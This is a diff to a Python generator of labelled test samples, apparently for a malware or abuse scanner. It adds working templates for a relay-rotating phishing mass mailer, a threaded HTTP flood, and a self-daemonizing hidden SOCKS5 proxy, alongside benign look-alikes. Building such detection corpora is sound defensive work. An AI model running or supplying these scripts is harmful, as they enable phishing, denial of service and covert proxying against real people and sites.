@@ -518,6 +518,47 @@ def t_oneliners(r):
     return body % v, "sh"
 
 
+def t_smtp_helper_loop(r):
+    """Python: the loop over the list calls a send helper with the entry; the
+    helper builds the message (To = its argument) and rotates SMTP relays."""
+    v = {"c": cm(r, "#", 2), "f": r.choice(["deliver", "shoot", "kirim", "go"]), "a": r.choice(["addr", "rcpt", "em"])}
+    loop = r.choice([
+        "for n, line in enumerate(open(sys.argv[1])):\n    try:\n        %(f)s(line.strip(), n)\n    except Exception as e:\n        print('x', e)\n    time.sleep(0.3)\n",
+        "with open('leads.txt') as fh:\n    for n, line in enumerate(fh):\n        %(f)s(line.strip(), n)\n",
+    ])
+    return ("import smtplib, sys, time, random\nfrom email.mime.text import MIMEText\n%(c)s"
+            "RELAYS = [x.strip().split(':') for x in open('relays.txt') if x.count(':') == 3]\nHTML = open('page.html').read()\n\n"
+            "def %(f)s(%(a)s, n):\n    h, p, u, pw = RELAYS[n %% len(RELAYS)]\n    m = MIMEText(HTML.replace('#EMAIL#', %(a)s), 'html')\n"
+            "    m['Subject'] = random.choice(['Notice', 'Refund', 'Statement'])\n    m['From'], m['To'] = u, %(a)s\n"
+            "    s = smtplib.SMTP_SSL(h, int(p))\n    s.login(u, pw)\n    s.sendmail(u, [%(a)s], m.as_string())\n    s.quit()\n\n" + loop) % v, "py"
+
+
+def t_http_flood_py(r):
+    """Python HTTP flood: hundreds of threads, rotated browser User-Agents, a
+    format-string cache-buster, a deadline from argv."""
+    v = {"c": cm(r, "#", 3), "n": r.choice([200, 500, 1000])}
+    return ("#!/usr/bin/env python3\nimport threading, random, sys, time, urllib.request\n%(c)s"
+            "T = sys.argv[1]\nEND = time.time() + int(sys.argv[2])\nAGENTS = ['Mozilla/5.0 (Windows NT 10.0)', 'Mozilla/5.0 (Macintosh)', 'Opera/9.80']\n"
+            "def worker():\n    while time.time() < END:\n        u = '%%s?%%d' %% (T, random.randint(1, 10 ** 9))\n"
+            "        rq = urllib.request.Request(u, headers={'User-Agent': random.choice(AGENTS), 'Cache-Control': 'no-cache'})\n"
+            "        try:\n            urllib.request.urlopen(rq, timeout=3)\n        except Exception:\n            pass\n"
+            "for _ in range(%(n)d):\n    threading.Thread(target=worker, daemon=True).start()\ntime.sleep(int(sys.argv[2]))\n") % v, "py"
+
+
+def t_hidden_socks(r):
+    """A SOCKS5 server that daemonizes itself, saved under a hidden name."""
+    v = {"p": r.choice([1080, 9050, 4145])}
+    return ("import socket, struct, threading, os, select\nif os.fork():\n    os._exit(0)\nos.setsid()\n\n"
+            "def relay(a, b):\n    while True:\n        r, _, _ = select.select([a, b], [], [], 90)\n        if not r:\n            return\n"
+            "        for x in r:\n            d = x.recv(32768)\n            if not d:\n                return\n            (b if x is a else a).sendall(d)\n\n"
+            "def serve(c):\n    c.recv(257)\n    c.sendall(b'\\x05\\x00')\n    hdr = c.recv(4)\n"
+            "    host = socket.inet_ntoa(c.recv(4)) if hdr[3] == 1 else c.recv(c.recv(1)[0]).decode()\n"
+            "    port = struct.unpack('>H', c.recv(2))[0]\n    up = socket.create_connection((host, port))\n"
+            "    c.sendall(b'\\x05\\x00\\x00\\x01' + bytes(6))\n    relay(c, up)\n\n"
+            "srv = socket.socket()\nsrv.bind(('0.0.0.0', %(p)d))\nsrv.listen(64)\nwhile True:\n"
+            "    threading.Thread(target=serve, args=(srv.accept()[0],), daemon=True).start()\n") % v, ""
+
+
 # ---------------------------------------------------------------------------
 # look-alikes
 
@@ -702,6 +743,34 @@ def b_py_relay_dev(r):
             "async def main():\n    srv = await asyncio.start_server(handle, '127.0.0.1', 8080)\n    await srv.serve_forever()\n\nasyncio.run(main())\n"), "py"
 
 
+def b_notify_helper(r):
+    """Per-user notices: a helper mails one user, the loop over users.txt calls it."""
+    return ("#!/usr/bin/env python3\n\"\"\"Tell every account owner about the maintenance window.\"\"\"\nimport smtplib, sys\nfrom email.message import EmailMessage\n\n"
+            "def notify(addr):\n    m = EmailMessage()\n    m['From'] = 'hosting@example.com'\n    m['To'] = addr\n"
+            "    m['Subject'] = 'Maintenance on Saturday'\n    m.set_content(open('/etc/motd.maint').read())\n"
+            "    with smtplib.SMTP('localhost') as s:\n        s.send_message(m)\n\n"
+            "for line in open(sys.argv[1]):\n    notify(line.strip())\n"), "py"
+
+
+def b_load_test_py(r):
+    """A load test before launch: threads to a deadline, cache-buster, one honest User-Agent."""
+    return ("#!/usr/bin/env python3\n# load test of the staging site\nimport threading, random, sys, time, urllib.request\n"
+            "T = sys.argv[1]\nEND = time.time() + int(sys.argv[2])\ndef worker():\n    while time.time() < END:\n"
+            "        u = '%s?nocache=%d' % (T, random.randint(1, 10 ** 9))\n"
+            "        urllib.request.urlopen(urllib.request.Request(u, headers={'User-Agent': 'acme-loadtest/1.0'}), timeout=5)\n"
+            "for _ in range(int(sys.argv[3])):\n    threading.Thread(target=worker).start()\n"), "py"
+
+
+def b_socks_dev_py(r):
+    """A developer's SOCKS5 test server in the project tree (no fork, no hiding)."""
+    return ("\"\"\"Minimal SOCKS5 server for the client library's tests.\"\"\"\nimport socket, struct, threading\n\n"
+            "def serve(c):\n    c.recv(257)\n    c.sendall(b'\\x05\\x00')\n    hdr = c.recv(4)\n    host = socket.inet_ntoa(c.recv(4))\n"
+            "    port = struct.unpack('>H', c.recv(2))[0]\n    up = socket.create_connection((host, port))\n"
+            "    c.sendall(b'\\x05\\x00\\x00\\x01' + bytes(6))\n\n"
+            "def main():\n    srv = socket.socket()\n    srv.bind(('127.0.0.1', 10800))\n    srv.listen(5)\n    while True:\n"
+            "        threading.Thread(target=serve, args=(srv.accept()[0],)).start()\n"), "py"
+
+
 TEMPLATES = [
     ("perl_fdopen_shell", t_perl_fdopen_shell, "malicious", "high"),
     ("py2_shell", t_py2_shell, "malicious", "high"),
@@ -725,6 +794,9 @@ TEMPLATES = [
     ("stealer", t_stealer, "malicious", "high"),
     ("persist", t_persist, "malicious", "high"),
     ("oneliners", t_oneliners, "malicious", "high"),
+    ("smtp_helper_loop", t_smtp_helper_loop, "malicious", "high"),
+    ("http_flood_py", t_http_flood_py, "malicious", "high"),
+    ("hidden_socks", t_hidden_socks, "malicious", "high"),
     ("quota_report", b_quota_report, "benign", "none"),
     ("smtp_monitor", b_smtp_monitor, "benign", "none"),
     ("smtp_check_perl", b_smtp_check_perl, "benign", "none"),
@@ -739,6 +811,9 @@ TEMPLATES = [
     ("backup_cron", b_backup_cron, "benign", "none"),
     ("socks_dev", b_socks_dev, "benign", "none"),
     ("sms_2fa", b_sms_2fa, "benign", "none"),
+    ("notify_helper", b_notify_helper, "benign", "none"),
+    ("load_test_py", b_load_test_py, "benign", "none"),
+    ("socks_dev_py", b_socks_dev_py, "benign", "none"),
     ("sms_reminder", b_sms_reminder, "benign", "none"),
     ("dotfiles", b_dotfiles, "benign", "none"),
     ("node_template", b_node_template, "benign", "none"),
@@ -769,6 +844,8 @@ def main():
                 tag = "nonphp7:%s:%s:%d" % (a.seed, name, i)
                 text, ext = fn(random.Random(tag))
                 fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + ext
+                if not ext:  # a dropped daemon: a hidden name without extension
+                    fname = "." + fname[:-1]
                 with open(os.path.join(out, fname), "wb") as f:
                     f.write(text.encode("utf-8"))
                 tsv.write("\t".join((fname, cls, name, ext, expect, "-")) + "\n")
